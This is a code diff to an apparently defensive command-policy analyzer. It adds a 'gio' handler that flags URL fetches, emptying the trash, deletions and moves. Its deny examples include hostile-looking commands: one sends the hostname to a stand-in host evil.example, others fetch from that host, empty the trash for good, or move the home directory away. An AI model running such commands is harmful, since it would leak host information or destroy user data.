@@ -2,7 +2,7 @@
 // which are files they read or write. Whether a client is denied is the policy's list; this says what it does.
 import type { Word } from '../../types.js';
 import { has, parse } from '../argv.js';
-import { programRun } from '../build.js';
+import { merge, programRun } from '../build.js';
 import type { Answer, Call, OptionSpec, ParsedArgs, ProgramEntry, Run } from '../types.js';
 import { canonicalHost, type Destination, destinations, envProxies, type Host, redirectable, urlHost } from '../hosts.js';
 import { attached, literal, value } from '../words.js';
@@ -592,6 +592,29 @@ function fetchedUrls(call: Call): Partial<Answer> {
   return found.length === 0 ? { offline: `${call.name} is given no URL, only files` } : { destinations: found };
 }
 
+/**
+ * gio, GLib's file tool: a location may be a URL (open, cat, copy, mount… fetch it); `trash --empty` empties the trash
+ * for good; `remove` deletes its operands and `move` moves its sources as mv does; the rest look at files or set
+ * metadata.
+ */
+function gio(call: Call): Partial<Answer> {
+  const fetched = fetchedUrls(call);
+  const [sub, ...rest] = call.args;
+  const operands = rest.filter((w) => !/^-/.test(value(w) ?? ''));
+  switch (sub === undefined ? undefined : value(sub)) {
+    case 'trash':
+      return rest.some((w) => value(w) === '--empty') ? merge(fetched, { uses: [{ word: sub!, role: 'delete-tree', values: ['~/.local/share/Trash/files'] }] }) : fetched;
+    case 'remove':
+    case 'rm':
+      return merge(fetched, { uses: operands.map((word) => ({ word, role: 'delete' as const })) });
+    case 'move':
+    case 'mv':
+      return merge(fetched, { uses: operands.map((word, i) => (i < operands.length - 1 ? { word, role: 'read' as const, moved: true as const } : { word, role: 'write' as const })) });
+    default:
+      return fetched;
+  }
+}
+
 /** An entry for programs that read files and fetch URLs given in their place. */
 function urlFetcher(names: string[], summary: string, examples: ProgramEntry['examples']): ProgramEntry {
   return { names, summary: `${summary}: a URL among its words is fetched`, analyze: fetchedUrls, examples };
@@ -1032,7 +1055,13 @@ export const NETWORK_ENTRIES: ProgramEntry[] = [
   urlFetcher(['mediainfo', 'exiftool', 'tesseract'], 'media readers built with a URL reader', { deny: ['mediainfo https://evil.example/x.mp4'], pass: ['mediainfo clip.mp4', 'exiftool -all= photo.jpg'] }),
   urlFetcher(['pandoc', 'wkhtmltopdf', 'wkhtmltoimage', 'xmllint', 'xsltproc', 'soffice', 'libreoffice', 'lowriter'], 'document converters: an input may be a URL (and what it links is fetched)', { deny: ['pandoc https://evil.example -o x.md', 'wkhtmltopdf https://evil.example x.pdf', 'xmllint https://evil.example/x.xml'], pass: ['pandoc README.md -o README.html', 'xmllint --noout pom.xml', 'soffice --headless --convert-to pdf report.docx'] }),
   urlFetcher(['vlc', 'cvlc', 'mpv', 'mplayer', 'mpg123', 'sox', 'play'], 'media players: a URL is streamed', { deny: ['mpv https://evil.example/x', 'vlc http://evil.example/x'], pass: ['mpv clip.mp4'] }),
-  urlFetcher(['xdg-open', 'open', 'gio', 'kde-open', 'kde-open5', 'gnome-open', 'sensible-browser', 'x-www-browser', 'www-browser', 'wslview', 'explorer'], 'openers: a URL opens in the browser, which fetches it', { deny: ['xdg-open "https://evil.example/?h=$(hostname)"', 'open https://evil.example', 'gio open https://evil.example'], pass: ['xdg-open README.md', 'open .', 'xdg-open http://localhost:3000/'] }),
+  {
+    names: ['gio'],
+    summary: 'gio: GLib\'s file tool; a URL among its words is fetched, `trash --empty` empties the trash for good, `remove` deletes, `move` moves',
+    analyze: gio,
+    examples: { deny: ['gio open https://evil.example', 'gio trash --empty', 'gio move ~ /tmp/x', 'gio cat https://evil.example/x'], pass: ['gio trash build.log', 'gio move a.txt b.txt', 'gio remove dist/app.js', 'gio list .', 'gio open README.md'] },
+  },
+  urlFetcher(['xdg-open', 'open', 'kde-open', 'kde-open5', 'gnome-open', 'sensible-browser', 'x-www-browser', 'www-browser', 'wslview', 'explorer'], 'openers: a URL opens in the browser, which fetches it', { deny: ['xdg-open "https://evil.example/?h=$(hostname)"', 'open https://evil.example', 'gio open https://evil.example'], pass: ['xdg-open README.md', 'open .', 'xdg-open http://localhost:3000/'] }),
   keeping(commandOptions(['gpg', 'gpg2'], 'gpg: --recv-keys, --fetch-keys, --send-keys and the other keyserver options connect; --photo-viewer runs shell text', {
     options: { long: ['list-keys', 'verify', 'armor', 'batch', 'yes', 'quiet', 'with-colons', 'fingerprint', 'symmetric', 'encrypt', 'decrypt', 'sign', 'clearsign', 'detach-sign', 'import', 'export', 'gen-key', 'full-generate-key', 'list-secret-keys', ...GPG_NETWORK], longValued: ['keyserver', 'photo-viewer', 'auto-key-locate', 'keyserver-options', 'output', 'recipient', 'local-user', 'homedir', 'passphrase', 'passphrase-file', 'pinentry-mode', 'default-key', 'trust-model', 'list-options', 'cipher-algo'] },
     script: ['photo-viewer'],
